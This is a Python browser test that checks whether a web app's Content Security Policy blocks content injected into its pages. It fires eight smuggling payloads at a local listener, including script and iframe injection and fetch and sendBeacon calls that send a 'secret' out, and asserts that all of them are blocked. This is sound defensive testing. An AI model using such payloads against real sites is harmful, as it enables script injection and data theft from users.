"""The content security policy in a real browser: what a text might smuggle in is neither loaded nor run nor sent
anywhere. That every tab opens under it is seen where all of them are opened: a violation is an error in the console."""

import socket
from collections.abc import Iterator
from threading import Thread

import httpx
import pytest
from playwright.sync_api import BrowserContext, Page

from specviz.app.page.door import policy

pytestmark = pytest.mark.browser
LISTEN = """addEventListener('securitypolicyviolation', event => {
  (window.violations ??= []).push(`${event.violatedDirective} ${event.blockedURI}`)})"""


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[bytes]]]:
    """A server of another origin on this machine, and what it was asked for."""
    asked: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(60)

        def listen() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    asked.append(connection.recv(4096).partition(b"\\r\\n")[0])
                    connection.sendall(b"HTTP/1.1 200 OK\\r\\ncontent-length: 0\\r\\n\\r\\n")

        Thread(target=listen, daemon=True).start()
        yield f"http://127.0.0.1:{server.getsockname()[1]}", asked


def violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("window.violations ?? []")
    return found


def test_every_answer_carries_the_policy(watch: str) -> None:
    for path in ("", "config", "gradio_api/info"):
        assert httpx.get(watch + path, timeout=60).headers["content-security-policy"] == policy(on_a_space=False)
    assert "huggingface.co" not in policy(on_a_space=False).partition("frame-ancestors")[0]
    assert policy(on_a_space=True).endswith("frame-ancestors 'self' https://huggingface.co https://*.hf.space")


MAKE = "const make = (kind, fields, place) => place.append(Object.assign(document.createElement(kind), fields)); "
SMUGGLED = {
    "script": "make('script', {src: URL}, document.head)",
    "image": "make('img', {src: URL}, document.body)",
    "text in a page": "make('div', {innerHTML: `<img src='${URL}'>`}, document.body)",
    "style": "make('link', {rel: 'stylesheet', href: URL}, document.head)",
    "frame": "make('iframe', {src: URL}, document.body)",
    "request": "fetch(URL, {method: 'POST', body: 'secret', mode: 'no-cors'}).catch(() => {})",
    "beacon": "navigator.sendBeacon(URL, 'secret')",
    "object": "make('object', {data: URL}, document.body)",
}


def test_nothing_is_loaded_from_elsewhere_or_sent_there(
    context: BrowserContext, watch: str, elsewhere: tuple[str, list[bytes]]
) -> None:
    outside, asked = elsewhere
    page = context.new_page()  # not the watched one: a violation is an error there
    page.add_init_script(LISTEN)
    for way, smuggle in SMUGGLED.items():
        page.goto(f"{watch}gradio_api/info")
        page.evaluate(f"URL = {outside!r} + '/smuggled'; {MAKE}{smuggle}")
        page.wait_for_function("(window.violations ?? []).length > 0")
        assert [one for one in violations(page) if outside not in one] == [], way
        assert asked == [], way
